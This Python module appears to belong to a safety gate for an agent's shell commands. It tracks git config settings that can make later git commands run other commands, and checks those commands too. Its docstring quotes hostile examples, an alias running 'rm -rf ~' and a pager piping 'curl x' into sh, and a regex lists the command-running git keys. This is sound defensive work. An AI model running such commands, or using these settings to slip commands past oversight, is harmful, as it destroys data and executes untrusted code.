"""Git settings a session made, and what later git commands run because of them.

``git config alias.st '!rm -rf ~'`` then ``git st``; ``git config core.pager 'curl x|sh'`` then ``git
log``: the setting is judged where it is made (the classifier reads command-valued settings), and again
where it takes effect. :class:`GitEffects` (mixed into
:class:`~tokenomy.autonomy.session_state.SessionState`) remembers the values set with ``git config``
(any scope: the file outlives a subshell) and adds, to every later git command, the parts of the
commands those settings make git run: an alias's expansion when the alias is used, and every
command-valued setting (pager, editor, ssh command, external diff, filters, credential helper, GPG
program, fsmonitor) for any git command, since most git commands may start one of them. A hooks path
points at files the gate cannot read: ``unknown``. Bounded by ``StateLimits.max_names``.
"""

from __future__ import annotations

import re
from collections import OrderedDict

from tokenomy.autonomy.classify import classify_shell
from tokenomy.autonomy.schedule import UNKNOWN, Schedule
from tokenomy.autonomy.session_files import StateLimits

__all__ = ["GitEffects"]

_COMMAND_KEY = re.compile(
    r"^(core\.(pager|editor|sshcommand|fsmonitor|askpass)|pager\..+|sequence\.editor|diff\.external"
    r"|diff\..+\.(command|textconv)|filter\..+\.(clean|smudge|process)|credential\.helper|gpg\.(.+\.)?program"
    r"|merge\..+\.driver|core\.hookspath)$"
)
_GIT_SUB = re.compile(r"(\bgit\s+)([\w-]+)")
_SCOPES = frozenset(("--global", "--local", "--system", "--worktree", "--add", "--replace-all"))


class GitEffects:
    """Git config tracking for the session state (a mixin: the tables live on the state)."""

    git: OrderedDict[str, str]  # lower-case key -> value set in this session
    limits: StateLimits
    evicted: set[str]
    cwd: str | None

    def _git(self, ws: list[str], schedule: Schedule, extra: list[tuple[str, str, str]]) -> None:
        args = ws[1:]
        while args and args[0] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace"):
            args = args[2:]
        while args and args[0].startswith("-") and args[0] not in ("--version", "--help"):
            args = args[1:]
        if not args:
            return
        sub, rest = args[0], args[1:]
        if sub == "config":
            self._git_config(rest)
            return
        alias = self.git.get(f"alias.{sub.lower()}")
        if alias is not None and alias.startswith("!"):
            text = alias[1:]
            extra.extend(
                (p, c, f"git {sub} runs the alias set in this session: {r}")
                for p, c, r in classify_shell(text, schedule, cwd=self.cwd).parts
            )
        for key, value in self.git.items():
            if key == "core.hookspath":
                extra.append((f"git {sub}", UNKNOWN, f"git hooks from {value}, set in this session"))
            elif _COMMAND_KEY.match(key):
                extra.extend(
                    (p, c, f"git {sub} may run {key} set in this session: {r}")
                    for p, c, r in classify_shell(value.lstrip("!"), schedule, cwd=self.cwd).parts
                )

    def _expand_git_aliases(self, text: str) -> str:
        """``git st`` read as ``git status`` for an alias set in this session (``!`` aliases: see _git)."""

        def sub(m: re.Match[str]) -> str:
            value = self.git.get(f"alias.{m.group(2).lower()}")
            return m.group(1) + value if value is not None and not value.startswith("!") else m.group(0)

        return _GIT_SUB.sub(sub, text)

    def _git_config(self, rest: list[str]) -> None:
        ops = [a for a in rest if a not in _SCOPES]
        if ops[:1] in (["--unset"], ["--unset-all"]) and len(ops) >= 2:
            self.git.pop(ops[1].lower(), None)
            return
        if len(ops) < 2 or ops[0].startswith("-"):
            return  # a read (git config --get k, git config -l) or a form not followed
        key = ops[0].lower()
        if key.startswith("alias.") or _COMMAND_KEY.match(key):
            self.git[key] = ops[1]
            self.git.move_to_end(key)
            while len(self.git) > self.limits.max_names:
                self.git.popitem(last=False)
                self.evicted.add("names")
